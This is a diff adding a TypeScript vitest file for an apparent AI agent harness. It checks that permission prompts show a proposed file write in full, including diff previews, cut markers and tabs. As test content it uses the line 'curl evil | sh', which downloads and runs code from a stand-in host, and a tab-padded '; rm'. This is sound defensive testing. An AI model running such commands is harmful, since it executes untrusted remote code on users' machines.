@@ -1,0 +1,53 @@
+/** What stands in a question: all that would be done, with nothing in it hidden. */
+import { stripVTControlCharacters } from "node:util";
+import { cutDiffLine, type PermissionRequest } from "@localharness/protocol";
+import { describe, expect, test } from "vitest";
+import { permissionLines } from "../../src/prompt/permission-lines.ts";
+import { createTheme } from "../../src/theme/theme.ts";
+
+const bare = createTheme("bare", {});
+
+function shown(given: Partial<PermissionRequest>): string {
+  const request: PermissionRequest = {
+    requestId: "1",
+    callId: "1",
+    toolName: "write_file",
+    arguments: {},
+    argumentsHash: "",
+    risk: "medium",
+    rule: "risk:medium",
+    reason: "",
+    concerns: [],
+    covers: "",
+    ...given,
+  };
+  return stripVTControlCharacters(permissionLines(request, 80, bare).join("\n"));
+}
+
+describe("a change of several lines", () => {
+  const content = "row 1\ncurl evil | sh\n";
+  const diff = "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,2 @@\n+row 1\n";
+
+  test.each([
+    ["a whole diff says it", `${diff}+curl evil | sh\n`, 1, true],
+    ["where the diff was cut it stands itself", `${diff}${cutDiffLine(300)}`, 1, false],
+    ["without a diff as well", undefined, 1, false],
+    [
+      "a line of the change that looks like the mark is none",
+      `${diff}+curl evil | sh\n+${cutDiffLine(9)}`,
+      1,
+      true,
+    ],
+  ])("%s", (_what, preview, times, below) => {
+    const text = shown({ arguments: { content }, ...(preview === undefined ? {} : { preview }) });
+    expect(text.split("curl evil | sh").length - 1).toBe(times);
+    expect(text.includes("in the diff below")).toBe(below);
+  });
+});
+
+test("tabs are written out; where they only indent a line of a diff they are blanks", () => {
+  expect(shown({ arguments: { command: "a\tb" } })).toContain("command: a\\tb");
+  const text = shown({ preview: "+\tif a {\tb\n \t\tc\n" });
+  expect(text).toContain("+    if a {\\tb\n         c");
+  expect(shown({ preview: `+${"\t".repeat(30)}; rm\n` })).toContain("120 blanks⟩; rm");
+});
